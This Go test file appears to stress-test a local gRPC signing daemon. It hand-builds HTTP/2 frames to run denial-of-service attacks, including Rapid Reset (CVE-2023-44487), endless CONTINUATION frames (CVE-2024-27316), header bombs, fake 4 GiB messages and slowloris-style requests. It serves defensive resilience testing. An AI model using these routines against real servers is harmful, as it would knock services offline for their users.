package loadtest_test

import (
	"encoding/binary"
	"errors"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// Of HTTP/2: RFC 9113, sections 3.4 and 6.
const (
	preface           = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
	frameData         = 0x0
	frameHeaders      = 0x1
	frameReset        = 0x3
	frameSettings     = 0x4
	frameContinuation = 0x9
	flagEndStream     = 0x1
	flagEndHeaders    = 0x4
)

// attackTime is how long one write or silence of an attacker lasts at most.
const attackTime = time.Second

// attacks is what a program can do to the socket that no gRPC library does.
// Each works on one connection until it ends, and counts what it did.
func attacks() map[string]struct {
	connections int
	do          func(a *attacker, conn net.Conn) error
} {
	type attack = struct {
		connections int
		do          func(a *attacker, conn net.Conn) error
	}
	return map[string]attack{
		busy:                        {1, (*attacker).compute},
		"silent connections":        {200, (*attacker).silent},
		"requests byte by byte":     {200, (*attacker).slow},
		"10,000 resets in a second": {8, (*attacker).resets},
		"messages of 4 GiB":         {8, (*attacker).giant},
		"header bombs":              {8, (*attacker).bomb},
		"continuations without end": {8, (*attacker).continuations},
		"calls as fast as can be":   {8, (*attacker).calls},
	}
}

// attacker is one program of a user who means harm.
type attacker struct {
	path  string
	until time.Time
	conns atomic.Int64 // opened
	did   atomic.Int64 // what was done on them
	pace  atomic.Int64 // of resets, in all
	began time.Time
}

// run keeps so many connections at work.
func (a *attacker) run(connections int, do func(*attacker, net.Conn) error) {
	a.began = time.Now()
	var all sync.WaitGroup
	for range connections {
		all.Go(func() {
			for time.Now().Before(a.until) {
				a.once(do)
			}
		})
	}
	all.Wait()
}

func (a *attacker) once(do func(*attacker, net.Conn) error) {
	conn, err := net.Dial("unix", a.path)
	if err != nil {
		<-time.After(10 * time.Millisecond) // the backlog is full
		return
	}
	defer conn.Close()
	a.conns.Add(1)
	a.did.Add(1)
	_ = conn.SetDeadline(time.Now().Add(attackTime))
	go func() { // what comes is not looked at, but read
		b := make([]byte, 16<<10)
		for {
			if _, err := conn.Read(b); err != nil {
				_ = conn.Close()
				return
			}
		}
	}()
	for err == nil && time.Now().Before(a.until) {
		err = do(a, conn)
	}
}

var errEnough = errors.New("this connection has done its part")

// busy is no attack, but the reference: a program that only computes takes as
// much of the machine, which is for the kernel to share out.
const busy = "only computing"

func (a *attacker) compute(net.Conn) error {
	n := uint64(1)
	for time.Now().Before(a.until) {
		for range 1000 {
			n = n*6364136223846793005 + 1442695040888963407
		}
	}
	a.did.Add(int64(n&1) + 1)
	return errEnough
}

// silent says nothing until the other end has enough.
func (a *attacker) silent(conn net.Conn) error {
	<-time.After(100 * time.Millisecond)
	return conn.SetWriteDeadline(time.Now().Add(attackTime))
}

// slow opens calls whose requests never come.
func (a *attacker) slow(conn net.Conn) error {
	if err := hello(conn); err != nil {
		return err
	}
	for stream := uint32(1); stream < 64; stream += 2 {
		if err := send(conn, frame(frameHeaders, flagEndHeaders, stream, headers("SigningService/Sign"))); err != nil {
			return err
		}
	}
	for _, b := range frame(frameData, flagEndStream, 1, make([]byte, 64)) {
		if err := send(conn, []byte{b}); err != nil {
			return err
		}
		<-time.After(50 * time.Millisecond)
	}
	return errEnough
}

// resets opens calls and takes them back (CVE-2023-44487).
func (a *attacker) resets(conn net.Conn) error {
	if err := hello(conn); err != nil {
		return err
	}
	block := headers("StatusService/GetStatus")
	for stream := uint32(1); time.Now().Before(a.until); stream += 2 {
		both := append(frame(frameHeaders, flagEndHeaders, stream, block), frame(frameReset, 0, stream, []byte{0, 0, 0, 8})...)
		if err := send(conn, both); err != nil {
			return err
		}
		a.did.Add(1)
		for float64(a.pace.Add(1)) > 10_000*time.Since(a.began).Seconds()+100 {
			a.pace.Add(-1)
			<-time.After(time.Millisecond)
			if time.Now().After(a.until) {
				return errEnough
			}
		}
		_ = conn.SetDeadline(time.Now().Add(attackTime))
	}
	return errEnough
}

// giant says that a message of 4 GiB follows.
func (a *attacker) giant(conn net.Conn) error {
	if err := hello(conn); err != nil {
		return err
	}
	for stream := uint32(1); ; stream += 2 {
		if err := send(conn, frame(frameHeaders, flagEndHeaders, stream, headers("SigningService/Sign"))); err != nil {
			return err
		}
		if err := send(conn, frame(frameData, 0, stream, []byte{0, 0xff, 0xff, 0xff, 0xff, 1, 2, 3})); err != nil {
			return err
		}
		a.did.Add(1)
	}
}

// bomb sends headers larger than any program's.
func (a *attacker) bomb(conn net.Conn) error {
	if err := hello(conn); err != nil {
		return err
	}
	block := headers("StatusService/GetStatus")
	for len(block) < 16<<10-100 {
		block = append(block, field("x", "0123456789012345678901234567890123456789")...)
	}
	for stream := uint32(1); ; stream += 2 {
		if err := send(conn, frame(frameHeaders, flagEndHeaders|flagEndStream, stream, block)); err != nil {
			return err
		}
		a.did.Add(1)
	}
}

// continuations never ends the headers of a call (CVE-2024-27316).
func (a *attacker) continuations(conn net.Conn) error {
	if err := hello(conn); err != nil {
		return err
	}
	if err := send(conn, frame(frameHeaders, 0, 1, headers("StatusService/GetStatus"))); err != nil {
		return err
	}
	block := field("x", "0123456789012345678901234567890123456789")
	for {
		if err := send(conn, frame(frameContinuation, 0, 1, block)); err != nil {
			return err
		}
		a.did.Add(1)
	}
}

// calls asks without end, and without waiting for an answer.
func (a *attacker) calls(conn net.Conn) error {
	if err := hello(conn); err != nil {
		return err
	}
	block := headers("StatusService/GetStatus")
	for stream := uint32(1); time.Now().Before(a.until); stream += 2 {
		call := append(frame(frameHeaders, flagEndHeaders, stream, block), frame(frameData, flagEndStream, stream, make([]byte, 5))...)
		if err := send(conn, call); err != nil {
			return err
		}
		a.did.Add(1)
		_ = conn.SetDeadline(time.Now().Add(attackTime))
	}
	return errEnough
}

func send(conn net.Conn, b []byte) error {
	_, err := conn.Write(b)
	return err
}

func hello(conn net.Conn) error {
	return send(conn, append([]byte(preface), frame(frameSettings, 0, 0, nil)...))
}

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	b := []byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), kind, flags}
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

// headers is the header block of a call: literals that are not indexed (RFC
// 7541, section 6.2.2).
func headers(method string) []byte {
	var b []byte
	for _, h := range [][2]string{
		{":method", "POST"},
		{":scheme", "http"},
		{":path", "/inkan.v1." + method},
		{":authority", "inkand"},
		{"content-type", "application/grpc"},
		{"te", "trailers"},
	} {
		b = append(b, field(h[0], h[1])...)
	}
	return b
}

// field is one header; name and value are shorter than 127 bytes.
func field(name, value string) []byte {
	b := append([]byte{0, byte(len(name))}, name...)
	return append(append(b, byte(len(value))), value...)
}
